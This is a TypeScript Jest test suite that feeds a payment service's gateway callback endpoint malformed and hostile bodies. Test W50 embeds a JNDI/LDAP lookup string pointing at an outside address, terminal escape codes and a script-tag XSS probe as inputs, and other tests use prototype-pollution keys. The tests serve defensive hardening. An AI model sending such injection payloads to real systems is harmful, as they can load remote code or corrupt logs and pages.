import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { sign } from '../../src/gateway/signature.js';
import { apiKey, merchantKey, payoutKey, startTestService, until, type TestService } from '../support/service.js';
import { startGatewayDouble, type GatewayDouble } from './gateway-double.js';
import {
  acknowledged,
  expectSetAside,
  head,
  kept,
  openPayment,
  said,
  saidWith,
  statusOf,
  stored,
  story,
  tx,
  untouched,
} from './support.js';

let gateway: GatewayDouble;
let shop: TestService;

beforeAll(async () => {
  gateway = await startGatewayDouble();
  shop = await startTestService({ sandbox: false, gatewayPort: gateway.port });
});
afterAll(async () => {
  await shop.close();
  await gateway.close();
});

const asked = (trackId: string): Promise<boolean> => until(() => Promise.resolve(gateway.asked.includes(trackId)));
const open = (): ReturnType<typeof openPayment> => openPayment(shop);
const setAside = (
  payment: Awaited<ReturnType<typeof openPayment>>,
  body: string | Buffer,
  reason: string,
): Promise<void> => expectSetAside(shop, payment, body, reason);
const storyOf = (id: string): Promise<string[]> => story(shop.database.pool, id);

describe('The form of a signed body', () => {
  it('W19: the content type is ignored, the body is JSON', async () => {
    const types = [
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
      'application/octet-stream',
      'application/json; charset=utf-16',
      'rubbish',
      'text/',
      '/',
      ';;;',
      '',
    ];
    const payment = await open();
    for (const [n, type] of types.entries()) {
      const body = said(payment, { status: 'Waiting', txs: [], value: n + 1 });
      const request =
        head({ HMAC: sign(body, merchantKey), 'Content-Type': type, 'Content-Length': String(body.length) }) + body;
      expect([type, await statusOf(shop.config.port, request)]).toEqual([type, 200]);
      expect(await kept(shop.database.pool, body)).toEqual([{ status: 'applied', reason: null, receipts: 1 }]);
    }
    const body = said(payment, { status: 'Waiting', txs: [], value: 500 });
    const request = head({ HMAC: sign(body, merchantKey), 'Content-Length': String(body.length) }) + body;
    expect(await statusOf(shop.config.port, request)).toBe(200);
    expect(await kept(shop.database.pool, body)).toHaveLength(1);
  });

  it('W20: what is not JSON is kept, and the gateway is asked where one track id can be made out', async () => {
    const payment = await open();
    const whole = said(payment);
    await setAside(payment, whole.slice(0, -1), 'not_json');
    await asked(payment.trackId);
    await setAside(payment, `${whole}{}`, 'not_json');
    await setAside(payment, 'status=Paid&track_id=1', 'not_json');
    await setAside(payment, whole.replace('{', "{'a':1,"), 'not_json');
    await setAside(payment, whole.replace('10.5', '010.5'), 'not_json');
    await setAside(payment, whole.replace('10.5', 'NaN'), 'not_json');
    const metrics = await shop.api('GET', '/metrics');
    expect(metrics.body).toMatch(/finality_callbacks_received_total\{result="quarantined"[^}]*\} [1-9]/);
  });

  it('W22: an empty body is kept', async () => {
    await setAside(await open(), '', 'not_json');
  });

  it('W23: a scalar, null or a list is kept', async () => {
    const payment = await open();
    await setAside(payment, 'null', 'missing_field');
    for (const body of ['12', '"Paid"', 'true', '[]', `[${said(payment)}]`])
      await setAside(payment, body, 'wrong_type');
    await setAside(payment, '{}', 'missing_field');
  });

  it('W24: only UTF-8 without a byte order mark is read', async () => {
    const payment = await open();
    const text = said(payment, { description: 'caf\u00e9' });
    await setAside(payment, Buffer.from(`\ufeff${text}`), 'not_utf8');
    await setAside(payment, Buffer.from(`\ufeff${text}`, 'utf16le'), 'not_utf8');
    await setAside(payment, Buffer.from(said(payment), 'utf16le'), 'not_json');
    await setAside(payment, Buffer.from(text, 'latin1'), 'not_utf8');
    await setAside(
      payment,
      Buffer.concat([Buffer.from(text.slice(0, -1)), Buffer.from([0xed, 0xa0, 0x80, 0x7d])]),
      'not_utf8',
    );
  });

  it("W25: a key that stands twice is not resolved by anybody's habit", async () => {
    const payment = await open();
    await setAside(
      payment,
      said(payment).replace('"status":"Paid"', '"status":"Paying","status":"Paid"'),
      'duplicate_key',
    );
    await asked(payment.trackId);
    await setAside(
      payment,
      said(payment).replace('"status":"Paid"', '"status":"Paid","stat\\u0075s":"Paid"'),
      'duplicate_key',
    );
    const txs = JSON.stringify([tx()]).replace('"currency":', '"sent_amount":999,"currency":');
    await setAside(payment, saidWith(payment, 'txs', txs), 'duplicate_key');
  });

  it('W26: keys that name a prototype are refused, and no object inherits anything', async () => {
    const payment = await open();
    for (const key of ['__proto__', 'constructor', 'prototype']) {
      await setAside(payment, said(payment).replace('"note":', `"${key}":{"polluted":"yes"},"note":`), 'forbidden_key');
    }
    expect(({} as { polluted?: string }).polluted).toBeUndefined();
    // Members that every plain object has by inheritance do not stand in for those that are missing.
    await setAside(payment, '{"toString":1,"hasOwnProperty":2}', 'missing_field');
  });

  it('W27: U+0000 and half surrogate pairs are kept as the bytes that came', async () => {
    const payment = await open();
    for (const text of ['\\u0000', '\\ud800', '\\udc00x', '\\ud800\\u0041']) {
      await setAside(payment, saidWith(payment, 'note', `"a${text}b"`), 'forbidden_character');
    }
    const read = saidWith(payment, 'note', '"\\ud83d\\ude00"')
      .replace('"Paid"', '"Waiting"')
      .replace(/"txs":.*$/, '"txs":[]}');
    expect(await shop.callback(read)).toEqual(acknowledged);
    expect(await kept(shop.database.pool, read)).toEqual([{ status: 'applied', reason: null, receipts: 1 }]);
  });

  it('W28: nesting beyond 16 is not followed', async () => {
    const payment = await open();
    await setAside(payment, '['.repeat(20_000) + ']'.repeat(20_000), 'too_deep');
    await setAside(payment, '{"a":'.repeat(10_000), 'too_deep');
    await setAside(payment, saidWith(payment, 'note', '['.repeat(16) + ']'.repeat(16)), 'too_deep');
  });
});

describe('Amounts', () => {
  it('W29: absurd ones are set aside', async () => {
    const payment = await open();
    for (const amount of [
      '1e400',
      '-1',
      '-0',
      '0',
      '"0"',
      '0.00',
      '0e9',
      '"NaN"',
      '"Infinity"',
      '"-Infinity"',
      '1'.repeat(40),
      `0.${'1'.repeat(40)}`,
      '1e-400',
    ]) {
      await setAside(payment, saidWith(payment, 'amount', amount), 'absurd_number');
    }
    for (const sent of ['1e400', '-10.5', '-0', '"NaN"', '9'.repeat(40)]) {
      await setAside(
        payment,
        saidWith(payment, 'txs', JSON.stringify([tx({ sent_amount: '@' })]).replace('"@"', sent)),
        'absurd_number',
      );
    }
    await asked(payment.trackId);
  });

  it('W30: they are compared by value, however they are written', async () => {
    for (const amount of ['"10.50"', '10.5', '10.500', '"10.5"', '1.05e1', '105E-1']) {
      const payment = await open();
      const body = saidWith(payment, 'amount', amount);
      expect(await shop.callback(body)).toEqual(acknowledged);
      expect([amount, await storyOf(payment.id)]).toEqual([
        amount,
        [...untouched, 'GatewayReported', 'TransferDetected', 'AmountAssessed', 'PaymentPaid'],
      ]);
    }
  });

  it('W31: every digit is kept, exponents are understood; more decimals than the currency has are set aside', async () => {
    const payment = await openPayment(shop, { amount: '0.00003079', currency: 'BTC' });
    const money = { amount: '@amount@', currency: 'BTC', value: 3.32, status: 'Paying' };
    const transfer = tx({
      currency: 'BTC',
      network: 'Bitcoin Network',
      sent_amount: '@sent@',
      received_amount: '@received@',
      value: 3.32,
      status: 'confirming',
    });
    const body = said(payment, { ...money, txs: [transfer] })
      .replace('"@amount@"', '3.079e-5')
      .replace('"@sent@"', '3.079e-5')
      .replace('"@received@"', '0.0000302342345678901234');
    expect(await shop.callback(body)).toEqual(acknowledged);
    const view = await shop.api('GET', `/v1/payments/${payment.id}`);
    expect(view.body).toMatchObject({
      received: '0.00003079',
      labels: ['sandbox'],
      transfers: [{ sentAmount: '0.00003079', receivedAmount: '0.0000302342345678901234' }],
    });

    const tiny = await openPayment(shop, { amount: '0.0000001', currency: 'ETH' });
    expect(
      await shop.callback(
        saidWith(tiny, 'amount', '1e-7')
          .replace('"currency":"USD"', '"currency":"ETH"')
          .replace('"Paid"', '"Waiting"')
          .replace(/"txs":.*$/, '"txs":[]}'),
      ),
    ).toEqual(acknowledged);
    expect(await storyOf(tiny.id)).toEqual([...untouched, 'GatewayReported']);

    const dollars = await open();
    for (const amount of ['10.505', '10.5000000000000000001', '1e-7', '"10.500000000000000000000000001"'])
      await setAside(dollars, saidWith(dollars, 'amount', amount), 'absurd_number');
  });

  it("W32: what is not a number in JSON's notation is none", async () => {
    const payment = await open();
    for (const amount of [
      '[10.5]',
      '{}',
      '{"value":10.5}',
      'true',
      'false',
      '"12abc"',
      '"0x10"',
      '" 12 "',
      '""',
      '"\u0661\u0660"',
      '"\uff11\uff10"',
      '"1,5"',
      '"1_0"',
      '"+10.5"',
      '"10.5\\n"',
      '".5"',
    ]) {
      await setAside(payment, saidWith(payment, 'amount', amount), 'wrong_type');
    }
  });
});

describe('Names and words', () => {
  it('W33: a track id beyond 2^53 is read from its digits', async () => {
    gateway.nextTrackId('9007199254740992');
    const even = await open();
    gateway.nextTrackId('9007199254740993');
    const odd = await open();
    expect(odd.trackId).toBe('9007199254740993');
    const body = saidWith(odd, 'track_id', '9007199254740993');
    expect(await shop.callback(body)).toEqual(acknowledged);
    expect(await storyOf(odd.id)).toContain('PaymentPaid');
    expect(await storyOf(even.id)).toEqual(untouched);
  });

  it('W34: a status is known in any case of ASCII letters, and by no look-alike', async () => {
    for (const status of ['Paid', 'paid', 'PAID', 'pAiD']) {
      const payment = await open();
      expect(await shop.callback(said(payment, { status }))).toEqual(acknowledged);
      expect([status, await storyOf(payment.id)]).toEqual([status, expect.arrayContaining(['PaymentPaid'])]);
    }
    const payment = await open();
    for (const status of [
      'PA\u0130D',
      'pa\u0131d',
      'pa\u0456d',
      '\uff30aid',
      'Paid\u200b',
      ' Paid',
      'Manual Accept\u212a',
      'new\u212a',
      'PAID\u0000'.slice(0, 4) + '.',
    ]) {
      await setAside(payment, said(payment, { status }), 'unknown_status');
    }
  });

  it('W35: an unknown status is set aside and the gateway asked; unknown members and a new type are let pass', async () => {
    const payment = await open();
    for (const status of ['Disputed', 'Paid!', 'settled'])
      await setAside(payment, said(payment, { status }), 'unknown_status');
    await asked(payment.trackId);
    for (const status of ['', null, undefined])
      await setAside(payment, said(payment, { status, note: String(status) }), 'missing_field');
    for (const status of [1, true, ['Paid'], { Paid: true }])
      await setAside(payment, said(payment, { status }), 'wrong_type');

    const body = said(payment, { new_member: { deep: [1, { x: null }] }, type: 'subscription' });
    expect(await shop.callback(body)).toEqual(acknowledged);
    expect(await kept(shop.database.pool, body)).toEqual([{ status: 'applied', reason: null, receipts: 1 }]);
    expect(await storyOf(payment.id)).toContain('PaymentPaid');
  });

  it('members that are null, empty or missing stop nothing', async () => {
    const payment = await open();
    const less = {
      email: null,
      note: null,
      sent_value: undefined,
      order_id: '',
      description: undefined,
      module_name: null,
      date: null,
      value: null,
    };
    expect(
      await shop.callback(
        said(payment, { ...less, txs: [tx({ sender_address: null, sent_value: undefined, date: null, rate: null })] }),
      ),
    ).toEqual(acknowledged);
    expect(await storyOf(payment.id)).toContain('PaymentPaid');
    for (const txs of [null, undefined, []]) {
      const other = await open();
      expect(await shop.callback(said(other, { status: 'Waiting', txs }))).toEqual(acknowledged);
      expect(await storyOf(other.id)).toEqual([...untouched, 'GatewayReported']);
    }
  });

  it('W50: text that means something to a terminal, a log reader or a lookup is kept and logged as one harmless line', async () => {
    const payment = await open();
    // One date for all: another second would make them another message.
    const date = Math.floor(Date.now() / 1000);
    const nasty =
      'a\nb\r\n{"level":"fatal"}\u001b[31mred\u001b[0m ${jndi:ldap://203.0.113.1/x} <script>alert(1)</script>';
    for (const changes of [{ note: nasty }, { description: nasty }, { module_name: nasty }, { email: nasty }]) {
      const before = (await storyOf(payment.id)).length;
      const body = said(payment, { status: 'Waiting', txs: [], date, ...changes });
      expect(await shop.callback(body)).toEqual(acknowledged);
      expect(await kept(shop.database.pool, body)).toHaveLength(before === untouched.length ? 1 : 0);
    }
    const long = said(payment, { status: 'Waiting', txs: [], note: 'x'.repeat(63 * 1024), value: 1234 });
    expect(await shop.callback(long)).toEqual(acknowledged);
    expect(await kept(shop.database.pool, long)).toEqual([{ status: 'applied', reason: null, receipts: 1 }]);

    const fresh = await open();
    await setAside(fresh, said(fresh, { status: nasty }), 'unknown_status');
    await setAside(fresh, said(fresh, { track_id: nasty }), 'wrong_type');
    await setAside(fresh, said(fresh, { status: 'x'.repeat(60_000) }), 'text_too_long');
    await setAside(fresh, said(fresh, { txs: [tx({ tx_hash: 'x'.repeat(300) })] }), 'text_too_long');
    for (const line of shop.logged) {
      expect(line.endsWith('\n') && !line.slice(0, -1).includes('\n') && !line.includes('\u001b')).toBe(true);
      const fields = JSON.parse(line) as Record<string, unknown>;
      for (const value of Object.values(fields))
        if (typeof value === 'string') expect(value.length).toBeLessThanOrEqual(1024);
      expect(line).not.toContain('jndi');
      expect(line).not.toContain('x'.repeat(257));
    }
  });
});

describe('After all of it', () => {
  it('the service still serves, has answered nothing with an error of its own and has logged no key', async () => {
    expect((await shop.api('GET', '/health/ready')).status).toBe(200);
    expect((await open()).trackId).not.toBe('');
    const lines = shop.logged.join('');
    expect(lines.includes('unexpected error')).toBe(false);
    for (const secret of [merchantKey, payoutKey, apiKey]) expect(lines.includes(secret)).toBe(false);
    expect((await stored(shop.database.pool)).messages).toBeGreaterThan(80);
  });
});
